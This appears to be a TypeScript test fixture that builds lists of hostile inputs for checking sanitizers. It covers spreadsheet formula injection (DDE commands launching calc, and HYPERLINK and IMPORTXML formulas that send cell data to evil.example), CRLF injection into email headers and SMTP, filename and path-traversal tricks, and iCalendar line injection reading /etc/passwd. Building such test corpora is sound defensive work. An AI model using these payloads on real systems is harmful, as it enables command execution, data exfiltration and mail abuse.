const formulas = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  "+cmd|'/c calc'!A1",
  "-2+3+cmd|'/c calc'!A1",
  "@SUM(1+1)*cmd|'/c calc'!A1",
  '=HYPERLINK("https://evil.example/?x="&A1,"Details")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
]
/** Prefixes after which a spreadsheet may still run a formula. */
const before = [
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00A0',
  '\u3000',
  '\uFEFF',
  '"',
  '""',
  ' "',
  "'",
  "''",
  "'\t",
]
/** Texts that end a cell or a line in some spreadsheets. */
const ends = ['a;', 'a; ', 'a;"', "a;'", 'a;\n', 'a\t', 'a\n', 'a\r\n', 'a\r', 'a\n\n', 'a\n"', 'a;;', 'a";']

const headers = [
  'x\r\nBcc: eve@evil.example',
  'x\nBcc: eve@evil.example',
  'x\rBcc: eve@evil.example',
  'x\r\n\r\n<script>alert(1)</script>',
  'x\u2028Bcc: eve@evil.example',
  'x\u0085Bcc: eve@evil.example',
  'x\r\nSet-Cookie: a=b',
  'x\r\n Set-Cookie: a=b',
  'x%0d%0aSet-Cookie:%20a=b',
  'x"; filename="evil.exe',
  "x'; filename*=UTF-8''evil.exe",
  'x\\"; evil="',
  '../../../evil.exe',
  'evil.exe\u202Efdp.csv',
  '\r\nContent-Type: text/html\r\n\r\n<b>',
  '=?utf-8?Q?=0D=0ABcc:_eve@evil.example?=',
  '=?utf-8?B?DQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=',
  '<eve@evil.example>, "x',
  '.\r\nMAIL FROM:<eve@evil.example>',
  '\r\n.\r\nRCPT TO:<eve@evil.example>',
  `${'x'.repeat(997)}\r\nBcc: eve@evil.example`,
]
const calendars = [
  'x\r\nATTENDEE:mailto:eve@evil.example',
  'x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:two',
  'x\r\nEND:VCALENDAR',
  'x\rURL:https://evil.example',
  'x\u2028BEGIN:VALARM\u2028ACTION:PROCEDURE',
  'x\u0085BEGIN:VALARM',
  'x\u000bATTACH:file:///etc/passwd',
  'x\u000cATTACH:file:///etc/passwd',
  'x\r\n ATTENDEE:mailto:eve@evil.example',
  '\\nBEGIN:VALARM\\n',
  'x\\;y\\,z\\\\n',
  'x;VALUE=URI:https://evil.example',
  `${'\u00e9'.repeat(80)}\nDTSTART:19700101T000000Z`,
  '&rrule=1&dates=x#evil',
]

/** User-written texts that try to make a spreadsheet run a formula. */
export const formulaTexts: readonly string[] = [
  ...before.flatMap((start) => formulas.map((formula) => `${start}${formula}`)),
  ...ends.flatMap((end) => formulas.map((formula) => `${end}${formula};b`)),
]

/** User-written texts that try to inject lines into a header or a calendar, and formulas. */
export const lineTexts: readonly string[] = [...headers, ...calendars, ...formulas]
